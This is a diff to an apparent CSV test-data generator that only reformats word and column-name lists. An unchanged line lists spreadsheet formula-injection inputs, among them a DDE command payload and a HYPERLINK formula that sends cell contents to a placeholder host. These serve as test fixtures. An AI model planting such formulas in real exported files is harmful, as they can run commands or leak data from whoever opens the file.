@@ -19,7 +19,22 @@ PACKERS = {
     "zstd": (lambda data: pa.compress(data, codec="zstd", asbytes=True), ".zst"),
 }
 FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", '=HYPERLINK("http://x/?"&A1,"a")', "\t=1+1")
-_WORDS = ("tea", "Käse", "茶叶", "naïve", "Ωmega", "кофе", "お茶", "it's", "a b", " lead", "trail ", "100%", "\u2028", "😀")
+_WORDS = (
+    "tea",
+    "Käse",
+    "茶叶",
+    "naïve",
+    "Ωmega",
+    "кофе",
+    "お茶",
+    "it's",
+    "a b",
+    " lead",
+    "trail ",
+    "100%",
+    "\u2028",
+    "😀",
+)
 ENCODINGS = ("utf-8", "utf-8", "utf-8", "utf-8-sig", "gb18030", "latin-1", "cp1252", "shift_jis", "big5", "koi8-r")
 WIDE_ENCODINGS = ("utf-16", "utf-16-le", "utf-16-be", "utf-32")
 
@@ -54,7 +69,16 @@ def csv_file(random: Random, count: int | None = None) -> TextFile:
     quote = random.choice(['"', '"', '"', "'", ""])
     line_end = random.choice(["\n", "\n", "\r\n"])
     encoding = random.choice(WIDE_ENCODINGS if random.random() < 0.1 else ENCODINGS)
-    names = ["id", "name", "quantity", "note", "price", "placed", "Übung" if encoding in ENCODINGS[:4] else "more", "x y"]
+    names = [
+        "id",
+        "name",
+        "quantity",
+        "note",
+        "price",
+        "placed",
+        "Übung" if encoding in ENCODINGS[:4] else "more",
+        "x y",
+    ]
     names = names[: random.randint(4, 8)]
     options: dict[str, Any] = {"delimiter": delimiter, "quote": quote}
     if encoding not in ("utf-8", "utf-8-sig", "utf-16"):
